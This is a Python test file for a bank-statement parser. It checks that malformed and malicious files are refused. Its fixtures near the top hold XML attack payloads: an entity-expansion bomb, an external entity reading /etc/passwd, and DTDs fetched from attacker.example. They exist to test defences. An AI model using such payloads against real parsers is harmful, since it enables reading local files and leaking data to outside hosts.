"""Files that are sent to do harm, or were damaged on their way: refused as a whole, in bounded time and memory."""

from __future__ import annotations

import pytest

from receivables.adapters.statements import limits, text
from receivables.adapters.statements.read import read_file
from receivables.adapters.statements.text import FileFormat, decoded, format_of
from receivables.banking.ports import MOST_BYTES
from receivables.core.errors import InvalidInput, TooLarge
from tests.bank_files import MAIN, Move, bai2, camt, mt940

PAID = Move("12.50", "Grüße aus Köln", "Jörg Müller")
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'


def with_prologue(prologue: str, codec: str = "utf-8") -> bytes:
    return camt(PAID).decode().replace("<Document", f"{prologue}<Document", 1).encode(codec)


@pytest.mark.parametrize("prologue", [LAUGHS, OUTSIDE, REMOTE, PARAMETER, "<!DOCTYPE x>", "<!doctype x>"])
def test_a_document_type_definition_is_refused_whatever_it_says(prologue: str) -> None:
    with pytest.raises(InvalidInput, match="document type definition"):
        read_file(with_prologue(prologue), MAIN)


def test_a_definition_is_found_in_utf_16_too() -> None:
    hidden = b"\xff\xfe" + with_prologue(LAUGHS, "utf-16-le")
    with pytest.raises(InvalidInput, match="document type definition"):
        read_file(hidden, MAIN)


def test_a_definition_cannot_hide_behind_an_encoding_that_is_not_read() -> None:
    hidden = camt(PAID).replace(b"UTF-8", b"UTF-7")
    with pytest.raises(InvalidInput, match="encoding UTF-7"):
        read_file(hidden, MAIN)


def test_an_entity_that_is_not_declared_is_not_well_formed() -> None:
    with pytest.raises(InvalidInput, match="not well-formed"):
        read_file(camt(PAID).replace(b"STM-1", b"&secret;"), MAIN)


def test_deep_nesting_is_refused_long_before_it_ends() -> None:
    with pytest.raises(InvalidInput, match="nested more than"):
        read_file(b"<Document>" + b"<a>" * 1_000_000, MAIN)


@pytest.mark.parametrize("cut", [1, 2, 3, 7])
def test_a_truncated_document_is_refused(cut: int) -> None:
    content = camt(PAID, Move("3.00"))
    with pytest.raises(InvalidInput) as refused:
        read_file(content[: -len(content) // 8 * cut], MAIN)
    assert refused.value.field == "file"


@pytest.mark.parametrize("content", [mt940(PAID, Move("3.00")), bai2(("165", 100, ",,,X/"))])
def test_a_truncated_text_is_refused(content: bytes) -> None:
    with pytest.raises(InvalidInput):
        read_file(content[: len(content) * 2 // 3], MAIN)


def test_a_file_over_the_bound_is_refused_unread() -> None:
    with pytest.raises(TooLarge):
        read_file(b"x" * (MOST_BYTES + 1), MAIN)


def test_more_lines_than_the_bound_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MOST_LINES", 3)
    many = [Move("1.00", ref=f"B{i}") for i in range(4)]
    for content in (camt(*many), mt940(*many), camt(Move("4.00", announced=4, parts=many))):
        with pytest.raises(InvalidInput, match="more than 3 lines"):
            read_file(content, MAIN)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "is empty"),
        (b" \r\n", "is empty"),
        (b"%PDF-1.7 ...", "PDF"),
        (b"PK\x03\x04xlsx", "ZIP"),
        (b"\x1f\x8b\x08", "gzip"),
        (b"Datum;Betrag\n01.03.2026;\x001,00", "null characters"),
        (b"<html><body>Please log in</body></html>", "begins with html"),
        (b"<Document><CstmrCdtTrfInitn/></Document>", "begins with Document"),
        (b"\xef\xbb\xbf\xff\xfe", "not the UTF-8 text"),
    ],
)
def test_what_is_no_statement_is_refused_and_says_why(content: bytes, says: str) -> None:
    with pytest.raises(InvalidInput, match=says):
        read_file(content, MAIN)


@pytest.mark.parametrize(
    "encoded",
    [
        camt(PAID),
        b"\xef\xbb\xbf" + camt(PAID),
        b"\xff\xfe" + camt(PAID).decode().replace("UTF-8", "UTF-16").encode("utf-16-le"),
        b"\xfe\xff" + camt(PAID).decode().replace("UTF-8", "UTF-16").encode("utf-16-be"),
        camt(PAID).decode().replace("UTF-8", "ISO-8859-1").encode("latin-1"),
        camt(PAID).decode().replace("UTF-8", "windows-1252").encode("cp1252"),
        mt940(PAID),
        mt940(PAID).decode("latin-1").encode(),
        mt940(PAID).decode("latin-1").encode("utf-16-le"),
    ],
)
def test_every_encoding_that_banks_use_is_read(encoded: bytes) -> None:
    (line,) = read_file(encoded, MAIN)[0].lines
    assert (line.counterparty, line.remittance) == ("Jörg Müller", ("Grüße aus Köln",))


def test_bytes_that_are_not_what_the_document_declares_are_refused() -> None:
    with pytest.raises(InvalidInput, match="not the UTF-8 text"):
        read_file(camt(PAID).decode().encode("latin-1"), MAIN)


def test_the_format_is_told_by_the_content() -> None:
    assert format_of(decoded(camt(PAID))) is FileFormat.CAMT
    assert format_of(decoded(mt940(PAID))) is FileFormat.MT940
    assert format_of(decoded(b"{1:F01BANKDEFFXXXX0000000000}{4:\r\n:20:X\r\n-}")) is FileFormat.MT940
    assert format_of(decoded(bai2(("165", 100, ",,,X/")))) is FileFormat.BAI2
    assert format_of(decoded(b"Datum;Betrag\n1.3.2026;1,00\n")) is FileFormat.CSV
    assert text.without_declaration('<?xml version="1.0"?><a/>') == "<a/>"


def test_control_characters_and_endless_texts_do_not_get_in() -> None:
    (line,) = read_file(mt940(Move("1.00", "x" * 200, "Ada\x07\x1bBlum" + "y" * 2000)), MAIN)[0].lines
    assert line.counterparty is not None
    assert len(line.counterparty) <= limits.MOST_TEXT
    assert line.counterparty.startswith("Ada Blum")


def test_an_entry_within_an_entry_is_refused() -> None:
    """It would be a movement by itself and a part of another one."""
    whole = camt(PAID)
    entry = whole[whole.index(b"<Ntry>") : whole.index(b"</Ntry>") + len(b"</Ntry>")]
    nested = whole.replace(b"</Ntry>", entry + b"</Ntry>", 1)
    with pytest.raises(InvalidInput, match="within another element"):
        read_file(nested, MAIN)
